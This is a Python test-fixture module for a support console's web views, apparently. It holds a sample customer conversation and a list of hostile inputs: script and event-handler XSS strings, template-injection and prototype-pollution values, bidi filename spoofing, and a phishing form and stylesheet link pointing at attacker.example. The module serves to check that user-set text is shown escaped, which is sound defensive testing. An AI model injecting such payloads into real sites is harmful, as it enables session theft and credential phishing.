"""Conversations for the console's tests, and texts that would be code if they were markup."""

from base64 import b64encode
from typing import Any

from tests.support.image_files import png

SUPPORT_USER = "customer 7/ü"
SUPPORT_SESSION = "ticket #42 & co"
QUESTION = "My export stops at 10,000 rows. Is that a limit?"
AGENT_ANSWER = "Yes, exports are limited to 10,000 rows. Please contact sales."
EXPERT_ANSWER = "Exports are limited to 10,000 rows. Filter by month and export each month."
SCREENSHOT = "Here is what I see."
OTHER_USER = "customer-8"
CLICKED = "the button Export on the page Reports"

CONVERSATION: list[dict[str, Any]] = [
    {"role": "User", "content": QUESTION, "created_at": 1_760_000_000},
    {
        "role": "Agent",
        "content": AGENT_ANSWER,
        "expert_content": EXPERT_ANSWER,
        "created_at": 1_760_000_020,
        "tools_used": [
            {"tool_name": "find_limit", "tool_data": {"of": "export"}, "status": "success"}
        ],
    },
    {
        "role": "User",
        "user_action": "click",
        "user_action_description": CLICKED,
        "created_at": 1_760_000_060,
    },
    {
        "role": "User",
        "content": SCREENSHOT,
        "image_encoding": b64encode(png(width=300, height=120)).decode(),
        "created_at": 1_760_000_080,
    },
]

HOSTILE_TEXTS = (
    "<script>window.attacked = 1</script>",
    "</p></article><img src=x onerror='window.attacked = 1'>",
    "<svg/onload=window.attacked=1>",
    "\"><iframe srcdoc='<script>parent.attacked=1</script>'>",
    "<a href='javascript:window.attacked=1' id=top>click</a>",
    "<form action='https://attacker.example/'><input name=key><button>Sign in</button></form>",
    "<style>*{display:none}</style><link rel=stylesheet href=//attacker.example/x.css>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1'>",
    "{{constructor.constructor('window.attacked=1')()}} ${window.attacked=1} <%= 1 %>",
    "<template><script>window.attacked=1</script></template><base href='//attacker.example/'>",
    "&lt;b&gt; &amp;amp; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e",
    "‮gnp.exe‬ \u0007\u001b[31m​﻿",
    "javascript:window.attacked=1",
    "__proto__",
    "constructor",
)
"""Each ends up in every text that a user can set; each must be seen as it was written."""

VIEWS: dict[str, dict[str, str]] = {
    "conversations": {"source": "web"},
    "conversation": {"user": SUPPORT_USER, "session": SUPPORT_SESSION},
    "search": {"q": QUESTION},
    "review": {},
    "review?list=users": {},
    "profiles": {"user": SUPPORT_USER},
    "learning": {},
    "access": {},
    "system": {},
}
"""Every view with the parameters that it shows something with."""
